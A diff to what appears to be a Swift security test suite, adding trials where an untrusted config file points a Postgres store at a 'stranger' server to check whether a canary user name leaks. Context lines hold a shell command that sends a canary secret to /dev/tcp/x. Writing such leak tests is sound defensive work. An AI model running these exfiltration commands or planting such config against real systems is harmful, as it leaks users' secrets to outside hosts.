@@ -228,6 +228,21 @@ extension UntrustedOptionTests {
     ]
   }
 
+  /// The server of the store would get the name of the user.
+  static func storeTrials(_ world: World) -> [Trial] {
+    let server =
+      "host=127.0.0.1 port=\(world.stranger.port) user=\(canary) sslmode=disable gssencmode=disable"
+    let files = ["weir.yaml": "store: {postgres: \"\(server)\"}\n"]
+    return [
+      Trial(
+        part: "`weir.yaml`", options: ["store"], files: files,
+        command: ["queue", "add", "http://127.0.0.1:\(world.bank.port)/account"], control: .reaches),
+      Trial(
+        part: "`store`", options: ["postgres"], files: files, command: ["store", "status"],
+        control: .reaches),
+    ]
+  }
+
   /// Each program would tell the stranger the password.
   static func programTrials(_ world: World) -> [Trial] {
     let program = "[sh, -c, \"printf %s $WEIR_CANARY > /dev/tcp/x 2>&-; echo $WEIR_CANARY > ran\"]"
